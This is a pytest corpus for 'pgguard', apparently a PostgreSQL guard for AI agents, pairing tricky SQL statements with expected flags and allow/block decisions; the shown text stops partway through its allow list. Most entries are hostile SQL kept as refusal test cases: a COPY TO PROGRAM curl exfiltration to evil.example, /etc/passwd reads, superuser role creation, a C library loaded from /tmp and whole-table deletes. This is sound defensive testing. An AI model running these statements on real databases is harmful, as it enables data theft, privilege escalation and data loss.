# The policy corpus: statements with their expected kind, flags and default-agent decision.
"""Classification and decision of a corpus of tricky statements.

Each entry: (sql, kinds, flags, decision[, extra]) where ``kinds`` is the statement kind
(comma-separated for a multi-statement text), ``flags`` the union of flags (space
separated, "" for none), ``decision`` what a generic agent gets under the default policy
(``agents = "guarded"``), and ``extra`` optional expectations on relations, functions,
``settings`` (the (name, value) pairs changed), ``rows`` (changes_rows), ``counted``
(counted_by_tag) and ``literal_free``.

Changed by issue 11 (deliberately): ``delete from t where false`` and ``delete from t
where 1 = 2`` were allowed because pgguard evaluated the constant; constants are no longer
evaluated, and a WHERE that does not depend on the target's rows is "every row or none"
(destructive). ``CREATE OR REPLACE`` is destructive. ``SET search_path`` is refused by the
settings allow-list.
"""
from __future__ import annotations

import pytest

from pgguard.config import Identity, loads
import pgguard.policy.classify as classify_mod
from pgguard.policy import PolicyEngine
from pgguard.policy.classify import classify

B, A = "block", "allow"

REFUSE = [
    # state that ROLLBACK does not restore, or that switches off what protects other sessions
    # (added deliberately after issue 11: these were allowed for guarded agents)
    ("SELECT setval('orders_id_seq', 1)", "select", "destructive", B),
    ("SELECT pg_catalog.setval('app.s'::regclass, 1, false)", "select", "destructive", B),
    ("SELECT id FROM orders WHERE setval('orders_id_seq', id) > 0", "select", "destructive", B),
    ("ALTER SEQUENCE orders_id_seq RESTART", "alter", "destructive", B),
    ("ALTER SEQUENCE app.s RESTART WITH 5 INCREMENT 2", "alter", "destructive", B),
    ("ALTER TABLE orders ALTER COLUMN id RESTART WITH 1", "alter", "destructive", B),
    ("ALTER TABLE orders SET UNLOGGED", "alter", "destructive", B),
    ("CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING", "create", "destructive", B),
    ("CREATE RULE r AS ON DELETE TO app.orders DO INSTEAD NOTHING", "create", "destructive", B),
    ("ALTER TABLE orders DISABLE TRIGGER USER", "alter", "privilege", B),
    ("ALTER TABLE orders DISABLE TRIGGER audit_trg", "alter", "privilege", B),
    ("ALTER TABLE orders DISABLE TRIGGER ALL", "alter", "privilege", B),
    ("ALTER TABLE orders DISABLE RULE r", "alter", "privilege", B),
    ("ALTER VIEW v SET (security_barrier = false)", "alter", "privilege", B),
    ("ALTER VIEW v RESET (security_invoker)", "alter", "privilege", B),
    ("CREATE PUBLICATION p FOR TABLE orders", "create", "escape", B),
    ("ALTER PUBLICATION p ADD TABLE customers", "alter", "escape", B),
    ("SELECT pg_stat_reset()", "select", "escape", B),
    ("SELECT pg_stat_reset_single_table_counters('orders'::regclass)", "select", "escape", B),
    ("SELECT pg_stat_statements_reset()", "select", "escape", B),
    # DROP of anything
    ("DROP INDEX orders_pkey", "drop", "destructive", B,
     {"written": ["public.orders_pkey"]}),
    ("DROP INDEX CONCURRENTLY IF EXISTS app.orders_idx", "drop", "destructive", B,
     {"written": ["app.orders_idx"]}),
    ("DROP TABLE orders", "drop", "destructive", B),
    ("drop table if exists a, s.b cascade", "drop", "destructive", B,
     {"written": ["public.a", "s.b"]}),
    ("DROP VIEW v", "drop", "destructive", B),
    ("DROP MATERIALIZED VIEW mv", "drop", "destructive", B),
    ("DROP SCHEMA app CASCADE", "drop", "destructive", B),
    ("DROP DATABASE app", "drop", "destructive", B),
    ("DROP FUNCTION f(int)", "drop", "destructive", B),
    ("DROP EXTENSION pgcrypto", "drop", "destructive escape", B),
    ("DROP ROLE bob", "drop", "destructive privilege", B),
    ("DROP OWNED BY bob", "drop", "destructive privilege", B),
    ("DROP SEQUENCE s", "drop", "destructive", B),
    ("DROP TRIGGER tr ON t", "drop", "destructive", B),
    ("DROP POLICY p ON t", "drop", "destructive privilege", B),
    ("DROP TYPE mood", "drop", "destructive", B),
    ('DROP TABLE "my table"', "drop", "destructive", B, {"written": ["public.my table"]}),
    ('drop table U&"\\0064rop"', "drop", "destructive", B, {"written": ["public.drop"]}),
    # TRUNCATE
    ("TRUNCATE orders", "truncate", "destructive write", B, {"written": ["public.orders"]}),
    ("TRUNCATE TABLE a, b RESTART IDENTITY", "truncate", "destructive write", B),
    # DELETE / UPDATE with no WHERE or a constant-true one
    ("DELETE FROM orders", "delete", "destructive write", B, {"written": ["public.orders"]}),
    ("delete from t where 1=1", "delete", "destructive write", B),
    ("delete from t where true", "delete", "destructive write", B),
    ("delete from t where 'a'='a'", "delete", "destructive write", B),
    ("delete from t where not false", "delete", "destructive write", B),
    ("delete from t where 1 = 1 or id = 5", "delete", "destructive write", B),
    ("delete from t where id = 1 or true", "delete", "destructive write", B),
    ("delete from t where id = id", "delete", "destructive write", B),
    ("DELETE FROM t WHERE 2 > 1", "delete", "destructive write", B),
    ("delete from t where 1 <> 2", "delete", "destructive write", B),
    ("delete from t where '1' = 1", "delete", "destructive write", B),
    ("delete from t where null is null", "delete", "destructive write", B),
    ("delete from t where true is true", "delete", "destructive write", B),
    ("delete from t where 't'::boolean", "delete", "destructive write", B),
    ("delete from t where 1::bool", "delete", "destructive write", B),
    ("delete from t where (1 = 1) and (2 = 2)", "delete", "destructive write", B),
    ("DELETE FROM t WHERE now() > '2000-01-01'", "delete", "destructive write", B),
    ("delete from t where exists (select 1)", "delete", "destructive write", B),
    ("delete from t where random() < 2", "delete", "destructive write", B),
    ("delete from only t", "delete", "destructive write", B),
    ("DELETE FROM t USING u", "delete", "destructive write", B,
     {"written": ["public.t"], "read": ["public.u"]}),
    ('delete from "Orders"', "delete", "destructive write", B, {"written": ["public.Orders"]}),
    ('DELETE FROM U&"d\\0061ta"', "delete", "destructive write", B,
     {"written": ["public.data"]}),
    ("DELETE FROM app.orders WHERE TRUE", "delete", "destructive write", B,
     {"written": ["app.orders"]}),
    ("UPDATE accounts SET balance = 0", "update", "destructive write", B),
    ("update t set a = 1 where 1 = 1", "update", "destructive write", B),
    ("UPDATE t SET a = 1 FROM u", "update", "destructive write", B),
    ("update t set a = 1 where 'x' = 'x' or a = 2", "update", "destructive write", B),
    # data-modifying CTEs
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select",
     "destructive write", B, {"written": ["public.t"], "read": [], "kinds": ["select", "delete"]}),
    ("WITH u AS (UPDATE t SET x = 1 RETURNING id) SELECT count(*) FROM u", "select",
     "destructive write", B),
    ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) DELETE FROM t", "delete",
     "destructive write", B),
    ("with a as (select 1), b as (delete from t where true returning 1) select * from a, b",
     "select", "destructive write", B),
    # EXPLAIN ANALYZE runs the statement
    ("EXPLAIN ANALYZE DELETE FROM t", "explain", "destructive write", B,
     {"kinds": ["explain", "delete"]}),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "explain", "destructive write", B),
    ("explain (analyze true) delete from t", "explain", "destructive write", B),
    ("explain (analyze 1, format json) delete from t", "explain", "destructive write", B),
    ("explain analyze select pg_read_file('/etc/passwd')", "explain", "escape", B),
    ("EXPLAIN ANALYZE EXECUTE never_prepared", "explain", "opaque", B),
    # DO blocks and function bodies
    ("DO $$ BEGIN EXECUTE 'drop table t'; END $$", "do", "destructive opaque", B),
    ("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$", "do", "opaque", B),
    ("DO $$ BEGIN DELETE FROM t; END $$", "do", "destructive write", B),
    ("do $$ declare r record; begin for r in select * from t loop delete from u; end loop; "
     "end $$", "do", "destructive write", B),
    ("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", "do", "escape", B),
    ("do $$ begin truncate t; end $$", "do", "destructive write", B),
    ("do $x$ declare n int; begin n := (select count(*) from pg_ls_dir('.')); end $x$", "do",
     "escape", B),
    ("DO $$ BEGIN IF true THEN UPDATE t SET a = 1; END IF; END $$", "do",
     "destructive write", B),
    ("DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$", "do", "opaque", B),
    ("DO LANGUAGE plpython3u $$ import os $$", "do", "escape opaque", B),
    ("DO LANGUAGE plv8 $$ plv8.execute('drop table t') $$", "do", "opaque", B),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
     "create", "destructive", B),
    ("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; END $$",
     "create", "destructive opaque", B),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'", "create",
     "destructive write", B),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC; DELETE FROM t; SELECT 1; END",
     "create", "destructive write", B),
    ("create function f() returns int language sql security definer as 'select 1'", "create",
     "privilege", B),
    ("CREATE FUNCTION evil() RETURNS int AS '/tmp/evil.so', 'evil' LANGUAGE C", "create",
     "escape opaque", B),
    ("create function h() returns void language plpython3u as 'import os'", "create",
     "escape opaque", B),
    ("ALTER FUNCTION f() SECURITY DEFINER", "alter", "privilege", B),
    ("ALTER FUNCTION f() SET role = admin", "alter", "destructive privilege", B),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin AS 'select 1'", "create",
     "privilege", B),
    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "create",
     "destructive opaque write", B),
    # triggers and rules run code later, inside other sessions' statements (issue 11
    # follow-up, deliberate: a planted trigger or rule is judged never again)
    ("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", "create",
     "opaque", B),
    ("CREATE TRIGGER t BEFORE UPDATE OR DELETE ON app.orders FOR EACH STATEMENT "
     "EXECUTE PROCEDURE f()", "create", "opaque", B),
    ("CREATE CONSTRAINT TRIGGER t AFTER INSERT ON orders DEFERRABLE FOR EACH ROW "
     "EXECUTE FUNCTION f()", "create", "opaque", B),
    ("CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers WHERE id > 0",
     "create", "opaque write", B),
    ("CREATE RULE r AS ON UPDATE TO orders DO ALSO NOTIFY orders_changed", "create",
     "opaque", B),
    # COPY forms that reach the server's files or shell
    ("COPY t TO PROGRAM 'curl -d @- evil.example'", "copy", "escape", B),
    ("COPY t FROM PROGRAM 'cat /etc/passwd'", "copy", "escape write", B),
    ("COPY t FROM '/etc/passwd'", "copy", "escape write", B),
    ("COPY t TO '/tmp/out.csv'", "copy", "escape", B),
    ("COPY (SELECT * FROM t) TO '/tmp/x'", "copy", "escape", B),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "copy", "destructive write", B),
    # escape functions, anywhere in the tree
    ("select pg_read_file('/etc/passwd')", "select", "escape", B,
     {"functions": ["pg_read_file"]}),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", "select", "escape", B,
     {"functions": ["pg_catalog.pg_read_file"]}),
    ("select pg_read_binary_file('x')", "select", "escape", B),
    ("select * from pg_ls_dir('.')", "select", "escape", B),
    ("select pg_stat_file('postgresql.conf')", "select", "escape", B),
    ("select lo_import('/etc/passwd')", "select", "escape", B),
    ("select lo_export(1234, '/tmp/x')", "select", "escape", B),
    ("SELECT lo_export(oid, '/tmp/x') FROM pg_largeobject_metadata", "select", "escape", B),
    ("select dblink('host=evil', 'select 1')", "select", "escape", B),
    ("select dblink_exec('dbname=x', 'drop table t')", "select", "escape", B),
    ("select * from dblink('a', 'b') as t(x int)", "select", "escape", B),
    ("select pg_terminate_backend(123)", "select", "escape", B),
    ("select pg_cancel_backend(pid) from pg_stat_activity", "select", "escape", B),
    ("select pg_reload_conf()", "select", "escape", B),
    ("select pg_rotate_logfile()", "select", "escape", B),
    ("select pg_file_write('x', 'y', false)", "select", "escape", B),
    ("SELECT * FROM t WHERE id = (SELECT length(pg_read_file('x')))", "select", "escape", B),
    ("select * from t, lateral (select pg_ls_dir('.')) x", "select", "escape", B),
    ("select (select dblink('a','b'))", "select", "escape", B),
    ("select coalesce(null, pg_read_file('x'))", "select", "escape", B),
    ("VALUES (pg_read_file('x'))", "select", "escape", B),
    ("INSERT INTO log SELECT pg_read_file('x')", "insert", "escape write", B),
    ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", "create", "escape", B),
    ("CREATE TABLE t2 AS SELECT pg_read_file('x')", "create", "escape", B),
    ("SELECT * INTO t2 FROM pg_ls_dir('.') x", "create", "escape", B),
    ("create table t (x text default pg_read_file('/etc/passwd'))", "create", "escape", B),
    ("ALTER TABLE t ADD COLUMN x text DEFAULT pg_read_file('/etc/passwd')", "alter",
     "destructive escape", B),
    ("create operator ### (function = pg_read_file, rightarg = text)", "create",
     "destructive escape", B),
    # operators, casts and default conversions take over other sessions' expressions
    ("CREATE OPERATOR public.+ (leftarg = numeric, rightarg = integer, function = round)",
     "create", "destructive", B),
    ("CREATE CAST (text AS int) WITH FUNCTION f(text) AS IMPLICIT", "create",
     "destructive", B),
    ("CREATE DEFAULT CONVERSION cv FOR 'LATIN1' TO 'UTF8' FROM iso8859_1_to_utf8", "create",
     "destructive", B),
    ("select query_to_xml('delete from t', true, true, '')", "select", "opaque", B),
    ("select ts_stat('select vector from docs')", "select", "opaque", B),
    # privilege
    ("SET ROLE postgres", "set", "privilege", B),
    ("set role none", "set", "privilege", B),
    ("SET LOCAL ROLE admin", "set", "privilege", B),
    ("RESET ROLE", "reset", "privilege", B),
    ("SET SESSION AUTHORIZATION postgres", "set", "privilege", B),
    ("RESET SESSION AUTHORIZATION", "reset", "privilege", B),
    ("set session authorization default", "set", "privilege", B),
    ("select set_config('role','postgres',false)", "select", "privilege", B),
    ("SELECT pg_catalog.set_config('ROLE', 'postgres', true)", "select", "privilege", B),
    ("select set_config(name, 'x', false) from t", "select", "privilege", B),
    ("SET session_replication_role = replica", "set", "privilege", B),
    ("DISCARD ALL", "discard", "privilege", B),
    ("GRANT SELECT ON orders TO bob", "grant", "privilege", B),
    ("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO bob", "grant", "privilege", B),
    ("grant admin to bob", "grant", "privilege", B),
    ("REVOKE ALL ON t FROM PUBLIC", "revoke", "privilege", B),
    ("CREATE ROLE hacker SUPERUSER LOGIN", "create", "privilege", B),
    ("CREATE USER eve WITH PASSWORD 'x'", "create", "privilege", B),
    ("ALTER ROLE bob SUPERUSER", "alter", "privilege", B),
    ("ALTER USER bob WITH PASSWORD 'x'", "alter", "privilege", B),
    ("ALTER ROLE bob RENAME TO robert", "alter", "privilege", B),
    ("ALTER ROLE bob SET role = 'admin'", "alter", "privilege", B),
    ("ALTER DATABASE app SET role = 'postgres'", "alter", "privilege", B),
    ("ALTER DATABASE app SET search_path = evil, public", "alter", "privilege", B,
     {"settings": []}),
    ("ALTER DATABASE app RESET ALL", "alter", "privilege", B),
    ("ALTER ROLE app IN DATABASE app SET default_transaction_read_only = off", "alter",
     "privilege", B, {"settings": []}),
    ("ALTER TABLE t OWNER TO bob", "alter", "privilege", B),
    ("ALTER FUNCTION f() OWNER TO bob", "alter", "privilege", B),
    ("ALTER SCHEMA s OWNER TO bob", "alter", "privilege", B),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO bob", "alter", "privilege", B),
    ("REASSIGN OWNED BY bob TO alice", "reassign", "privilege", B),
    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "alter", "privilege", B),
    ("CREATE POLICY p ON t USING (true)", "create", "privilege", B),
    ("SECURITY LABEL ON TABLE t IS 'x'", "security_label", "privilege", B),
    # escape: extensions, server configuration, libraries, remote servers
    ("CREATE EXTENSION dblink", "create", "escape", B),
    ("create extension if not exists plpython3u", "create", "escape", B),
    ("ALTER EXTENSION pg_trgm UPDATE", "alter", "escape", B),
    ("ALTER SYSTEM SET shared_buffers = '8GB'", "alter", "escape", B),
    ("ALTER SYSTEM RESET ALL", "alter", "escape", B),
    ("LOAD 'auto_explain'", "load", "escape", B),
    ("create language plperlu", "create", "escape", B),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", "create",
     "escape", B),
    ("CREATE USER MAPPING FOR CURRENT_USER SERVER s", "create", "escape", B),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", "create", "escape", B),
    ("CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION p", "create", "escape", B),
    ("set standard_conforming_strings = off", "set", "escape", B),
    ("SET client_encoding TO 'SJIS'", "set", "escape", B),
    ("SET NAMES 'BIG5'", "set", "escape", B),
    # ALTER TABLE ... DROP
    ("ALTER TABLE t DROP COLUMN c", "alter", "destructive", B, {"written": ["public.t"]}),
    ("ALTER TABLE t DROP CONSTRAINT t_pkey", "alter", "destructive", B),
    ("alter table if exists t drop column if exists c cascade", "alter", "destructive", B),
    ("ALTER TABLE t ADD COLUMN n int, DROP COLUMN c", "alter", "destructive", B),
    # MERGE
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge",
     "destructive write", B, {"written": ["public.t"], "read": ["public.s"]}),
    ("MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1", "merge",
     "destructive write", B),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", "merge",
     "destructive write", B),
    ("MERGE INTO t USING t AS s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 0", "merge",
     "destructive write", B),
    # PREPARE / EXECUTE / CALL
    ("PREPARE p AS DELETE FROM t", "prepare", "destructive write", B,
     {"kinds": ["prepare", "delete"]}),
    ("PREPARE p(bool) AS DELETE FROM t WHERE $1", "prepare", "destructive write", B),
    ("PREPARE p AS SELECT pg_read_file('x')", "prepare", "escape", B),
    ("PREPARE p AS DELETE FROM t; EXECUTE p", "prepare,execute", "destructive write", B),
    ("EXECUTE unknown_stmt", "execute", "opaque", B),
    ("EXPLAIN EXECUTE unknown_stmt", "explain", "opaque", B),
    ("CREATE TABLE x AS EXECUTE unknown_stmt", "create", "opaque", B),
    ("PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p", "prepare,deallocate,execute",
     "opaque", B),
    ("CALL do_everything()", "call", "opaque", B, {"functions": ["do_everything"]}),
    ("CALL public.cleanup(30)", "call", "opaque", B),
    # several statements: one refused statement refuses the text
    ("SELECT 1; DROP TABLE t", "select,drop", "destructive", B),
    ("select 1; delete from t", "select,delete", "destructive write", B),
    ("BEGIN; DELETE FROM t; COMMIT", "begin,delete,commit", "destructive write", B),
    ("select 1;;; select 2; truncate t", "select,select,truncate", "destructive write", B),
]

# system catalogs: any write is a privilege concern (an unqualified pg_* name is the
# catalog's: pg_catalog is searched first)
CATALOG = [
    ("UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'", "update",
     "privilege write", B, {"written": ["pg_catalog.pg_authid"], "rows": True}),
    ("DELETE FROM pg_proc WHERE proname = 'f'", "delete", "privilege write", B,
     {"written": ["pg_catalog.pg_proc"]}),
    ("delete from pg_catalog.pg_class where oid = 1", "delete", "privilege write", B,
     {"written": ["pg_catalog.pg_class"]}),
    ("INSERT INTO pg_catalog.pg_namespace (nspname) VALUES ('x')", "insert",
     "privilege write", B),
    ("insert into information_schema.sql_features values ('x')", "insert",
     "privilege write", B, {"written": ["information_schema.sql_features"]}),
    ("UPDATE pg_toast.pg_toast_1259 SET chunk_seq = 0 WHERE chunk_id = 1", "update",
     "privilege write", B),
    ("TRUNCATE pg_largeobject", "truncate", "destructive privilege write", B),
    ("COPY pg_authid FROM STDIN", "copy", "privilege write", B),
    ("MERGE INTO pg_class c USING t ON c.oid = t.id WHEN MATCHED THEN UPDATE SET relname = t.n",
     "merge", "privilege write", B),
    ("WITH d AS (DELETE FROM pg_depend WHERE objid = 1 RETURNING 1) SELECT * FROM d",
     "select", "privilege write", B),
    ("UPDATE pg_settings SET setting = 'off' WHERE name = 'row_security'", "update",
     "privilege write", B),
    ("CREATE TRIGGER tr BEFORE INSERT ON pg_class FOR EACH ROW EXECUTE FUNCTION f()",
     "create", "opaque privilege", B),
    ("CREATE RULE r AS ON INSERT TO pg_catalog.pg_proc DO INSTEAD NOTHING", "create",
     "destructive privilege", B),
    ("ALTER TABLE pg_class ENABLE ROW LEVEL SECURITY", "alter", "privilege", B),
    ("DROP TRIGGER tr ON pg_class", "drop", "destructive privilege", B,
     {"written": ["pg_catalog.pg_class"]}),
    ("DROP RULE r ON pg_catalog.pg_proc", "drop", "destructive privilege", B),
    ("ALTER TRIGGER tr ON pg_proc RENAME TO x", "alter", "privilege", B),
    ("DO $$ BEGIN UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'; END $$", "do",
     "privilege write", B),
    ("PREPARE p AS DELETE FROM pg_catalog.pg_shdepend WHERE refobjid = $1", "prepare",
     "privilege write", B),
]

# DDL that can lose data, and large-object functions that destroy it
LOSSY = [
    ("ALTER TABLE t ALTER COLUMN a TYPE int", "alter", "destructive", B),
    ("alter table t alter column a type text using null", "alter", "destructive", B),
    ("ALTER TABLE t ALTER a SET DATA TYPE varchar(2)", "alter", "destructive", B),
    ("ALTER TABLE t ADD COLUMN b int, ALTER COLUMN a TYPE numeric(3, 0) USING a / 1000",
     "alter", "destructive", B),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "create",
     "destructive", B),
    ("CREATE OR REPLACE VIEW v AS SELECT * FROM t", "create", "destructive", B),
    ("CREATE OR REPLACE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "create",
     "destructive", B),
    ("CREATE OR REPLACE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
     "create", "destructive opaque", B),
    ("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", "create",
     "destructive", B),
    ("DO $$ BEGIN CREATE OR REPLACE VIEW v AS SELECT 2; END $$", "do", "destructive", B),
    ("CREATE OR REPLACE AGGREGATE a(int) (sfunc = int4pl, stype = int)", "create",
     "destructive", B),
    ("select lo_unlink(1234)", "select", "destructive", B),
    ("SELECT pg_catalog.lo_unlink(oid) FROM pg_largeobject_metadata", "select",
     "destructive", B, {"read": ["pg_catalog.pg_largeobject_metadata"]}),
    ("select lo_put(1234, 0, 'x')", "select", "destructive", B),
    ("select lo_truncate(lo_open(1234, 131072), 0)", "select", "destructive", B),
    ("select lowrite(lo_open(1234, 131072), 'x')", "select", "destructive", B),
    ("DO $$ BEGIN PERFORM lo_unlink(1234); END $$", "do", "destructive", B),
]

# WHERE clauses that reach every row although they name a column or a constant that
# looks selective: judged by syntax, never by evaluating constants
EVERY_ROW = [
    ("delete from t where false", "delete", "destructive write", B),
    ("delete from t where 1 = 2", "delete", "destructive write", B),
    ("DELETE FROM t WHERE 'NaN'::float8 = 'NaN'::float8", "delete", "destructive write", B),
    ("delete from t where 'a '::char(2) = 'a'", "delete", "destructive write", B),
    ("delete from t where 0.1::float4 = 0.1", "delete", "destructive write", B),
    ("delete from t where null = null", "delete", "destructive write", B),
    ("delete from t where t.id = id", "delete", "destructive write", B),
    ("DELETE FROM t x WHERE x.id = x.id", "delete", "destructive write", B),
    ("delete from t where id is not distinct from t.id", "delete", "destructive write", B),
    ("delete from t where (id = id) is true", "delete", "destructive write", B),
    ("update t set a = 1 where not (id <> id)", "update", "destructive write", B),
    ("delete from t where col is not null", "delete", "destructive write", B),
    ("delete from t where not (col is null)", "delete", "destructive write", B),
    ("delete from t where col = col or id = 1", "delete", "destructive write", B),
    ("delete from t where true or id = 1", "delete", "destructive write", B),
    ("delete from t where id = 1 or exists (select 1 from u)", "delete",
     "destructive write", B),
    ("delete from t where exists (select 1 from u)", "delete", "destructive write", B),
    ("delete from t where exists (select 1 from u where u.x = 1)", "delete",
     "destructive write", B),
    ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM t WHERE t.id > 0)", "delete",
     "destructive write", B),
    ("DELETE FROM t USING other WHERE other.id = 1", "delete", "destructive write", B),
    ("UPDATE t SET a = 1 FROM u WHERE u.id = 5", "update", "destructive write", B),
    ("DO $$ DECLARE v int := 1; BEGIN DELETE FROM t WHERE v = 1; END $$", "do",
     "destructive write", B),
    ("DO $$ DECLARE r record; BEGIN FOR r IN SELECT 1 AS id LOOP "
     "DELETE FROM t WHERE r.id = 1; END LOOP; END $$", "do", "destructive write", B),
    ("CREATE FUNCTION f(k int) RETURNS void LANGUAGE sql AS 'DELETE FROM t WHERE k > 0'",
     "create", "destructive write", B),
    ("MERGE INTO t USING s ON s.id = 1 WHEN MATCHED THEN UPDATE SET a = 1", "merge",
     "destructive write", B),
    ("MERGE INTO t USING s ON t.id = t.id WHEN MATCHED AND s.x = 1 THEN UPDATE SET a = 1",
     "merge", "destructive write", B),
]

# settings a session may not change (the built-in "settings" rule refuses them)
SETTINGS_REFUSED = [
    ("SET search_path = app, public", "set", "", B,
     {"settings": [("search_path", "app, public")]}),
    ("RESET search_path", "reset", "", B, {"settings": [("search_path", None)]}),
    ("SET default_transaction_read_only = off", "set", "", B,
     {"settings": [("default_transaction_read_only", "off")]}),
    ("BEGIN READ WRITE", "begin", "", B, {"settings": [("transaction_read_only", "off")]}),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "begin", "", B,
     {"settings": [("transaction_isolation", "serializable"),
                   ("transaction_read_only", "off")]}),
    ("SET TRANSACTION READ WRITE", "set", "", B,
     {"settings": [("transaction_read_only", "off")]}),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "set", "", B,
     {"settings": [("default_transaction_read_only", "off")]}),
    ("SET application_name = 'pgguard:alice psql'", "set", "", B),
    ("select set_config('application_name', 'pgguard:alice', false)", "select", "", B,
     {"settings": [("application_name", "pgguard:alice")], "literal_free": False}),
    ("SET row_security = off", "set", "", B),
    ("SET myapp.tenant = '7'", "set", "", B, {"settings": [("myapp.tenant", "7")]}),
    ("SET transform_null_equals = on", "set", "", B),
    ("SET LOCAL backslash_quote = on", "set", "", B),
    ("SET TRANSACTION SNAPSHOT '00000003-1'", "set", "", B,
     {"settings": [("transaction_snapshot", "00000003-1")]}),
    ("select set_config('transaction_read_only', 'off', false)", "select", "", B),
    ("WITH s AS (SELECT set_config('search_path', 'x', false)) SELECT * FROM s", "select",
     "", B),
    ("PREPARE p AS SELECT set_config('default_transaction_read_only', 'off', false)",
     "prepare", "", B),
    ("DO $$ BEGIN SET LOCAL search_path = evil; END $$", "do", "", B,
     {"settings": [("search_path", "evil")]}),
    ("DO $$ BEGIN PERFORM set_config('row_security', 'off', false); END $$", "do", "", B),
    ("EXPLAIN ANALYZE SELECT set_config('search_path', 'x', false)", "explain", "", B),
    ("select set_config(current_user, 'x', false)", "select", "privilege", B,
     {"settings": [("*", None)]}),
    ("UPDATE t SET a = set_config('search_path', a, false) WHERE id = 1", "update", "write",
     B, {"settings": [("search_path", None)]}),
]

ALLOW = [
    # near neighbours of the state-changing refusals above that stay allowed
    ("SELECT nextval('orders_id_seq')", "select", "", A),
    ("SELECT currval('orders_id_seq'), lastval()", "select", "", A),
    ("ALTER SEQUENCE orders_id_seq INCREMENT 2", "alter", "", A),
    ("ALTER TABLE orders SET LOGGED", "alter", "destructive", B),      # a rewrite
    ("ALTER TABLE orders SET TABLESPACE pg_default", "alter", "destructive", B),
    ("ALTER TABLE orders SET ACCESS METHOD heap", "alter", "destructive", B),
    ("ALTER TABLE orders SET (autovacuum_enabled = false)", "alter", "destructive", B),  # an outage
    # keywords inside literals, comments, quoted identifiers
    ("SELECT 'DROP TABLE x'", "select", "", A),
    ("SELECT 1 -- DROP TABLE x", "select", "", A),
    ("/* drop */ select 1", "select", "", A),
    ("select 1 /* ; drop table t; */", "select", "", A),
    ("select $$drop table t$$", "select", "", A),
    ("select $tag$; drop table t; $tag$", "select", "", A),
    ("select drop_count from t", "select", "", A, {"read": ["public.t"]}),
    ('select "drop table" from t', "select", "", A),
    ('select * from "delete" where "truncate" = 1', "select", "", A,
     {"read": ["public.delete"]}),
    ("SELECT * FROM orders WHERE note = 'x; DROP TABLE orders; --'", "select", "", A),
    ("select 'pg_read_file(''/etc/passwd'')'", "select", "", A),
    ("select e'\\'; drop table t; --'", "select", "", A),
    ("select U&'\\0064rop table t'", "select", "", A),
    ('select 1 as "drop table t"', "select", "", A),
    ("select pg_read_file_count from t", "select", "", A),
    ("INSERT INTO orders (id, note) VALUES (1, 'DELETE FROM orders')", "insert", "write", A,
     {"written": ["public.orders"], "read": []}),
    ("COMMENT ON TABLE t IS 'drop table t'", "comment", "", A),
    # EXPLAIN without ANALYZE does not run anything
    ("EXPLAIN DELETE FROM t", "explain", "", A, {"written": [], "read": ["public.t"]}),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", "explain", "", A),
    ("explain (analyze off, costs off) update t set a = 1", "explain", "", A),
    ("EXPLAIN SELECT * FROM orders", "explain", "", A),
    ("EXPLAIN ANALYZE SELECT * FROM orders", "explain", "", A),
    ("explain (verbose, format json) truncate t", None, "", B),  # not explainable: parse error
    # DELETE / UPDATE with a real WHERE
    ("DELETE FROM t WHERE id = 5", "delete", "write", A,
     {"rows": True, "counted": True, "literal_free": True}),
    ("DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)", "delete", "write",
     A, {"rows": True, "counted": True}),
    ("delete from t x where x.id = 5", "delete", "write", A),
    ("UPDATE t SET a = 1 WHERE col IS NULL", "update", "write", A),
    ("delete from t where id > 0", "delete", "write", A, {"rows": True}),
    ("DELETE FROM t WHERE id = ANY($1)", "delete", "write", A),
    ("delete from t where id in (select id from u)", "delete", "write", A,
     {"rows": True, "counted": True}),
    ("delete from t where (id = 1) is true", "delete", "write", A),
    ("DO $$ DECLARE v int := 1; BEGIN DELETE FROM t WHERE id = v; END $$", "do", "write", A,
     {"rows": True, "counted": False}),
